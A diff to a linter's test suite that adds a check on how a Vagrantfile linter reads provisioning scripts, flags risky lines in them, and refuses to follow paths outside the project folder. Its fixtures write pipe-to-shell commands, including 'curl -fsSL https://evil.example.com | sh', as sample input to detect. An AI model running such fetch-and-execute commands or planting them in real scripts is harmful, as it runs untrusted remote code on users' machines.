@@ -3,7 +3,11 @@
  * and the exact text of the fixes that follow from it.
  */
 import { strict as assert } from 'node:assert';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { engineReady } from '../helpers/setup';
+import { nodeEnv } from '../../src/node/host';
 import { lint, applyFixes, defaultConfig, symbols, type Finding, type SymbolInfo } from '../../src/core/index';
 
 const V = (text: string, codes?: string[]): Finding[] =>
@@ -157,6 +161,42 @@ end
     for (const x of f) {
       assert.ok(!tagAt(x.range.start.line, x.range.start.character), `${x.code} starts inside a tag`);
       for (const fix of x.fixes ?? []) for (const e of fix.edits) assert.ok(!tagAt(e.range.start.line, e.range.start.character + 1), `${x.code} fix edits a tag`);
+    }
+  });
+});
+
+describe('provisioning path: scripts', () => {
+  before(engineReady);
+
+  it('reads path: scripts inside the Vagrantfile folder through the host, never outside it', () => {
+    const root = mkdtempSync(join(tmpdir(), 'dg-vagrant-path-'));
+    try {
+      const project = join(root, 'project');
+      mkdirSync(join(project, 'scripts'), { recursive: true });
+      writeFileSync(join(project, 'scripts', 'setup.sh'), '#!/bin/bash\nset -e\napt-get update\napt-get install nginx\ncurl -fsSL https://get.example.com | bash\n');
+      writeFileSync(join(root, 'outside.sh'), 'curl -fsSL https://evil.example.com | sh\n');
+      writeFileSync(join(project, 'win.ps1'), 'curl https://x | sh\n');
+      const text = `Vagrant.configure("2") do |config|
+  config.vm.box = "bento/debian-12"
+  config.vm.box_version = "202502.21.0"
+  config.vm.provision "shell", path: "scripts/setup.sh"
+  config.vm.provision "shell", path: "../outside.sh"
+  config.vm.provision "shell", path: "${join(root, 'outside.sh')}"
+  config.vm.provision "shell", path: "win.ps1"
+end
+`;
+      const file = join(project, 'Vagrantfile');
+      writeFileSync(file, text);
+      const f = lint(text, 'vagrantfile', defaultConfig(), nodeEnv(file)).filter((x) => x.code === 'VGT035' || x.code === 'VGT037');
+      assert.deepEqual(
+        f.map((x) => `${x.code}@${x.range.start.line}:${x.range.start.character} ${x.message.split(':')[0]}`).sort(),
+        ['VGT035@3:37 scripts/setup.sh, line 5', 'VGT037@3:37 scripts/setup.sh, line 4'],
+      );
+      assert.equal(f[0].related?.[0].file, join(project, 'scripts', 'setup.sh'));
+      // without a file name (stdin) nothing is read
+      assert.deepEqual(lint(text, 'vagrantfile', defaultConfig(), nodeEnv(undefined)).filter((x) => x.code === 'VGT035'), []);
+    } finally {
+      rmSync(root, { recursive: true, force: true });
     }
   });
 });
